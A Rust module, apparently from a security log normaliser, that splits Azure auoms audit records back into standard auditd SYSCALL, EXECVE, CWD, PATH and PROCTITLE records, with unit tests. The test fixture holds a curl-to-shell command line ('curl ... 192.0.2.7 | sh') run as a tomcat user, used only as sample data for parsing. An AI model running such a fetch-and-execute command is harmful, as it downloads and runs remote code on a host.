//! Azure's audit collector (auoms) writes an event as one record, `AUOMS_EXECVE` or `AUOMS_SYSCALL`, with names beside numbers and lists
//! in place of PATH records. It is taken apart again, so that the event is what it would be from the audit system itself.

use std::borrow::Cow;

use crate::normalise::linux::auditd::line::{Fields, Line};
use crate::normalise::linux::auditd::record::{Field, Record, decode};
use crate::normalise::linux::auditd::tables::Tables;

/// What every one of its record types begins with.
pub const PREFIX: &str = "AUOMS_";
/// The last two keys; what stands before them may hold anything.
const TAIL: &str = " redactors=";
/// Paths of one event.
const PATHS_MAX: usize = 64;

/// Names it writes and those of an enriching daemon.
const NAMES: &[(&str, &str)] = &[
    ("user", "UID"),
    ("audit_user", "AUID"),
    ("effective_user", "EUID"),
    ("set_user", "SUID"),
    ("filesystem_user", "FSUID"),
    ("group", "GID"),
    ("effective_group", "EGID"),
    ("set_group", "SGID"),
    ("filesystem_group", "FSGID"),
];

/// The host that the record names in its body.
pub fn node(body: &str) -> Option<&str> {
    let (_, rest) = body.split_once(" node=")?;
    rest.split(' ').next().filter(|name| !name.is_empty())
}

/// The records the event was made of. The first keeps the type it was written with.
pub fn records<'a>(line: &Line<'a>, tables: &Tables) -> Vec<Record<'a>> {
    let (body, tail) = line.body.rsplit_once(TAIL).unwrap_or((line.body, ""));
    let (body, command) = cut(body, " cmdline=");
    let (body, title) = cut(body, " proctitle=");
    let mut call = decode(&Line { body, ..*line }, tables);
    let mut found = Vec::new();
    let mut cwd = record("CWD");
    let mut path = record("PATH");
    let mut lists: Vec<(&'a str, Vec<&'a str>)> = Vec::new();
    for field in Fields::new(body) {
        if let Some((_, added)) = NAMES.iter().find(|(key, _)| *key == field.key) {
            call.names.push((added, field.value));
        } else if let Some(key) = field.key.strip_prefix("path_") {
            lists.push((key, list(field.value)));
        }
    }
    // What belongs to other records, and what only repeats others.
    call.fields.retain_mut(|field| {
        let key = field.key.as_ref();
        let written = field.raw.unwrap_or_default();
        match key {
            "cwd" => cwd.fields.push(field.clone()),
            "name" | "inode" | "dev" | "rdev" | "nametype" | "objtype" => {
                path.fields.push(field.clone());
            }
            "ouid" | "ogid" | "mode" | "o_user" | "owner_group" | "argc" | "node"
            | "SchemaVersion" | "auoms_version" | "syscall_r" | "key_r" => {}
            _ if key.starts_with("cap_") || key.starts_with("path_") => {}
            _ if NAMES.iter().any(|(known, _)| *known == key) => {}
            // Several keys stand in one word.
            "key" if written.is_empty() => {
                field.value = field.value.replace(',', "\u{1}").into();
                return true;
            }
            _ => return true,
        }
        false
    });
    if let Some((_, id)) = tail.split_once("containerid=") {
        let id = id.trim();
        if !id.is_empty() {
            call.fields.push(Field { key: "contid".into(), value: id.into(), raw: None });
        }
    }
    found.push(record(call.kind));
    call.kind = "SYSCALL";
    found.push(call);
    if let Some(command) = command {
        found.push(execve(command, body));
    }
    if !cwd.fields.is_empty() {
        found.push(cwd);
    }
    found.extend(paths(path, &lists));
    if let Some(title) = title {
        let mut record = record("PROCTITLE");
        record.fields.push(Field { key: "proctitle".into(), value: title.into(), raw: None });
        found.push(record);
    }
    found
}

fn record(kind: &str) -> Record<'_> {
    Record { kind, fields: Vec::new(), names: Vec::new() }
}

/// The text before a key, and its value: in quotes or not, it runs to the end.
fn cut<'a>(body: &'a str, key: &str) -> (&'a str, Option<&'a str>) {
    let Some((head, value)) = body.split_once(key) else { return (body, None) };
    let bare = value.strip_prefix('"').and_then(|rest| rest.strip_suffix('"'));
    (head, Some(bare.unwrap_or(value)))
}

/// `["/bin/sh","/lib/ld.so"]`.
fn list(text: &str) -> Vec<&str> {
    let inner = text.trim_start_matches('[').trim_end_matches(']');
    inner.split(',').map(|item| item.trim_matches('"')).take(PATHS_MAX).collect()
}

/// A PATH record for every item of the lists; the first one's inode and device are known, too.
fn paths<'a>(first: Record<'a>, lists: &[(&'a str, Vec<&'a str>)]) -> Vec<Record<'a>> {
    let count = lists.iter().map(|(_, items)| items.len()).max().unwrap_or(0);
    if count == 0 {
        return if first.fields.is_empty() { Vec::new() } else { vec![first] };
    }
    let mut found = Vec::new();
    for index in 0..count {
        let mut one = record("PATH");
        for (key, items) in lists {
            if let Some(item) = items.get(index).filter(|item| !item.is_empty()) {
                one.fields.push(Field { key: (*key).into(), value: (*item).into(), raw: None });
            }
        }
        let name = one.get("name");
        if index == 0 && name.is_some() && name == first.get("name") {
            let more = first
                .fields
                .iter()
                .filter(|field| matches!(field.key.as_ref(), "inode" | "dev" | "rdev"));
            one.fields.extend(more.cloned());
        }
        found.push(one);
    }
    found
}

/// The arguments out of the command line: words, with spaces where they stand in quotes. If they are not as many as there
/// should be, the line stays whole.
fn execve<'a>(command: &'a str, body: &str) -> Record<'a> {
    let count =
        Fields::new(body).find(|field| field.key == "argc").map(|field| field.value.to_owned());
    let mut words: Vec<Cow<'a, str>> = Vec::new();
    let mut word = String::new();
    let mut quoted = false;
    for character in command.chars() {
        match character {
            '"' => quoted = !quoted,
            ' ' if !quoted => words.push(Cow::Owned(std::mem::take(&mut word))),
            other => word.push(other),
        }
    }
    words.push(Cow::Owned(word));
    let expected = count.as_deref().and_then(|count| count.parse::<usize>().ok());
    let mut record = record("EXECVE");
    if expected.is_none_or(|expected| expected != words.len()) {
        words = vec![Cow::Borrowed(command)];
    } else if let Some(count) = count {
        record.fields.push(Field { key: "argc".into(), value: count.into(), raw: None });
    }
    for (index, word) in words.into_iter().enumerate() {
        record.fields.push(Field { key: format!("a{index}").into(), value: word, raw: None });
    }
    record
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::normalise::linux::auditd::line::parse;

    const LINE: &str = "type=AUOMS_EXECVE audit(100.5:7): SchemaVersion=\"1\" auoms_version=2.5 node=WEB1 arch=x86_64 syscall=execve syscall_r=59 success=yes exit=0 a0=7f ppid=10 pid=11 audit_user=bob auid=1000 user=tomcat uid=1001 group=tomcat gid=1001 effective_user=tomcat euid=1001 tty=(none) ses=\"-1\" comm=\"sh\" exe=\"/bin/sh\" key=auoms,exec key_r=61 cwd=\"/\" name=\"/bin/sh\" inode=31 dev=08:01 mode=file,755 o_user=root ouid=0 nametype=NORMAL cap_fp=0 path_name=[\"/bin/sh\",\"/lib/ld.so\"] path_nametype=[\"NORMAL\",\"NORMAL\"] path_mode=[\"0100755\",\"0100755\"] argc=3 cmdline=\"sh -c \"curl x=1 192.0.2.7 | sh\"\" redactors= containerid=abc";

    #[test]
    fn one_record_is_taken_apart() {
        let line = parse(LINE).unwrap();
        assert_eq!(line.node, Some("WEB1"));
        let records = records(&line, &Tables::new());
        let kinds: Vec<&str> = records.iter().map(|record| record.kind).collect();
        assert_eq!(kinds, ["AUOMS_EXECVE", "SYSCALL", "EXECVE", "CWD", "PATH", "PATH"]);
        let get = |index: usize, key: &str| records.get(index).unwrap().get(key);
        assert_eq!(get(1, "syscall"), Some("execve"));
        assert_eq!(get(1, "key"), Some("auoms\u{1}exec"));
        assert_eq!(get(1, "contid"), Some("abc"));
        assert_eq!(records.get(1).unwrap().name("UID"), Some("tomcat"));
        assert_eq!(get(1, "ses"), Some("unset"));
        assert_eq!((get(2, "a1"), get(2, "a2")), (Some("-c"), Some("curl x=1 192.0.2.7 | sh")));
        assert_eq!(get(3, "cwd"), Some("/"));
        assert_eq!((get(4, "name"), get(4, "inode")), (Some("/bin/sh"), Some("31")));
        assert_eq!((get(5, "name"), get(5, "inode")), (Some("/lib/ld.so"), None));
        assert_eq!(get(5, "mode"), Some("0100755"));
    }

    #[test]
    fn what_does_not_add_up_stays_whole() {
        let text = LINE.replace("argc=3", "argc=9");
        let line = parse(&text).unwrap();
        let records = records(&line, &Tables::new());
        let execve = records.iter().find(|record| record.kind == "EXECVE").unwrap();
        assert_eq!(execve.get("a0"), Some("sh -c \"curl x=1 192.0.2.7 | sh\""));
        let title = LINE.replace(
            "argc=3 cmdline=\"sh -c \"curl x=1 192.0.2.7 | sh\"\"",
            "proctitle=java -Dx=y z",
        );
        let line = parse(&title).unwrap();
        let records = super::records(&line, &Tables::new());
        assert_eq!(records.last().unwrap().get("proctitle"), Some("java -Dx=y z"));
    }
}
